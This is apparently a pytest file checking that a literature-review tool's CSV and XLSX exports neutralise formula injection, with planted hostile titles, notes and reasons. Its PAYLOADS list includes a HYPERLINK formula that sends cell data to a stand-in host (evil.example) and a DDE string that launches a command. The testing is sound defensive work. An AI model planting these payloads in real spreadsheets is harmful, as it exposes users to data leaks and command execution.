"""Record text that starts like a spreadsheet formula stays text in every tabular export.

SYNTHETIC data: the review from ``reports_testdata`` with hostile titles, notes and reasons planted.
"""

import csv
import json

import openpyxl
import pytest
from sqlalchemy import insert, update

from review.cli import main
from review.reports.tabular import Table, csv_cell, write_csv, write_xlsx
from review.store import schema

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_review(review_dir, store):
    with store.write() as conn:
        conn.execute(update(schema.works).where(schema.works.c.id == 1).values(title=PAYLOADS[0], venue=PAYLOADS[2]))
        conn.execute(
            update(schema.raw_records)
            .where(schema.raw_records.c.id == 1)
            .values(title=PAYLOADS[1], publisher=PAYLOADS[3])
        )
        conn.execute(
            insert(schema.decisions).values(
                work_id=4,
                stage=1,
                reviewer="Anna",
                decision="exclude",
                reasons=json.dumps([PAYLOADS[4]]),
                note=PAYLOADS[5],
                final=True,
                automatic=False,
                basis="reviewer",
                created_at="2023-03-02T10:00:00.000000+00:00",
            )
        )
        conn.execute(
            insert(schema.decisions).values(
                work_id=4,
                stage=1,
                reviewer="@Anna",
                decision="exclude",
                reasons=json.dumps(["x"]),
                note=PAYLOADS[6],
                final=True,
                automatic=False,
                basis="reviewer",
                created_at="2023-03-02T10:00:01.000000+00:00",
            )
        )
    return review_dir


@pytest.mark.parametrize("what", ["works", "raw", "decisions", "included", "search-log"])
def test_xlsx_cells_are_never_formulas(hostile_review, tmp_path, what):
    out = tmp_path / f"{what}.xlsx"
    assert main(["export", str(hostile_review), what, "-o", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    seen.append(cell.value)
    if what in ("works", "raw", "decisions"):
        assert seen, "the planted payloads should be in this export, as text"


@pytest.mark.parametrize("what", ["works", "raw", "decisions", "included", "asreview"])
def test_csv_cells_that_look_like_formulas_get_a_quote(hostile_review, tmp_path, what):
    out = tmp_path / f"{what}.csv"
    assert main(["export", str(hostile_review), what, "-o", str(out)]) == 0
    cells = [c for row in csv.reader(out.open(encoding="utf-8-sig", newline="")) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    planted = [c for c in cells if c.startswith("'") and c[1:] in PAYLOADS + ["@Anna"]]
    if what in ("works", "raw", "decisions"):
        assert planted


def test_expected_payloads_in_each_export(hostile_review, tmp_path):
    found = {}
    for what in ("works", "raw", "decisions"):
        out = tmp_path / f"{what}.csv"
        assert main(["export", str(hostile_review), what, "-o", str(out)]) == 0
        found[what] = out.read_text(encoding="utf-8")
    assert "'" + PAYLOADS[0] in found["works"].replace('""', '"')
    assert "'" + PAYLOADS[1] in found["raw"].replace('""', '"')
    assert "'" + PAYLOADS[5] in found["decisions"]


def test_numbers_stay_numbers_and_plain_text_is_untouched(tmp_path):
    table = Table(columns=["n", "x", "t"], rows=[[-5, 2.5, "Rapport - del 2"], [3, None, "-"], [True, 0, "a=b"]])
    write_xlsx([("S", table)], tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [c.value for c in sheet[2]] == [-5, 2.5, "Rapport - del 2"]
    assert sheet["A2"].data_type == "n"
    assert sheet["C3"].value == "-" and sheet["C3"].data_type == "s"
    write_csv(table, tmp_path / "t.csv", excel=False)
    rows = list(csv.reader((tmp_path / "t.csv").open(encoding="utf-8", newline="")))
    assert rows[1] == ["-5", "2.5", "Rapport - del 2"]
    assert rows[2] == ["3", "", "'-"]
    assert rows[3] == ["1", "0", "a=b"]
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\x00ok") == "\x00ok"


def test_control_characters_do_not_break_an_xlsx(tmp_path):
    table = Table(columns=["t"], rows=[["Tittel\x0b med\x01 styretegn"]])
    write_xlsx([("S", table)], tmp_path / "t.xlsx")
    assert openpyxl.load_workbook(tmp_path / "t.xlsx").active["A2"].value == "Tittel med styretegn"
